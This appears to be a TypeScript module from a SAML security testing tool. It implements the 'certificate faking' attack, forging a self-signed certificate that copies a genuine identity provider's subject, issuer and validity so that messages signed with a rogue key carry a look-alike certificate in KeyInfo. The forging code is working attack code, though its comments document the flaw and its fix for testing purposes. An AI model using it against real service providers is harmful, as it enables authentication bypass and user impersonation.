/*
 * A certificate smuggled in KeyInfo (SAML Raider's "certificate faking"; the "trust the key the message brings"
 * class of Somorovsky et al., "On Breaking SAML", USENIX Security 2012): the message is signed by
 * the IdP's rogue key, and ds:KeyInfo carries a self-signed certificate for that key whose subject and issuer
 * names are copied from the genuine IdP certificate. An SP that verifies with the certificate in KeyInfo, or
 * that "pins" the IdP by the certificate's subject name, accepts it. saml-core §5.4.5: the key must come from
 * the SP's own trust configuration (metadata), never from the message.
 */
import { randomBytes } from 'node:crypto';
import forge from 'node-forge';
import type { KeyPair } from '../keys/key-store.ts';

const cache = new Map<string, string>();

/** A certificate for `rogue`'s key with the genuine certificate's subject, issuer and validity. */
export function lookAlikeCertificate(genuineCertificatePem: string, rogue: KeyPair): string {
  const cacheKey = genuineCertificatePem + rogue.certificatePem;
  const cached = cache.get(cacheKey);
  if (cached) return cached;
  const genuine = forge.pki.certificateFromPem(genuineCertificatePem);
  const privateKey = forge.pki.privateKeyFromPem(rogue.privateKeyPem) as forge.pki.rsa.PrivateKey;
  const cert = forge.pki.createCertificate();
  cert.publicKey = forge.pki.setRsaPublicKey(privateKey.n, privateKey.e);
  const serial = randomBytes(16);
  serial[0] = serial[0]! & 0x7f;
  cert.serialNumber = serial.toString('hex');
  cert.validity.notBefore = genuine.validity.notBefore;
  cert.validity.notAfter = genuine.validity.notAfter;
  cert.setSubject(genuine.subject.attributes);
  cert.setIssuer(genuine.issuer.attributes);
  cert.sign(privateKey, forge.md.sha256.create());
  const pem = forge.pki.certificateToPem(cert);
  cache.set(cacheKey, pem);
  return pem;
}

/** The key pair to sign with: the rogue private key, and the look-alike certificate to put in KeyInfo. */
export function rogueKeyWithLookAlikeCertificate(genuine: KeyPair, rogue: KeyPair): KeyPair {
  return { privateKeyPem: rogue.privateKeyPem, certificatePem: lookAlikeCertificate(genuine.certificatePem, rogue) };
}
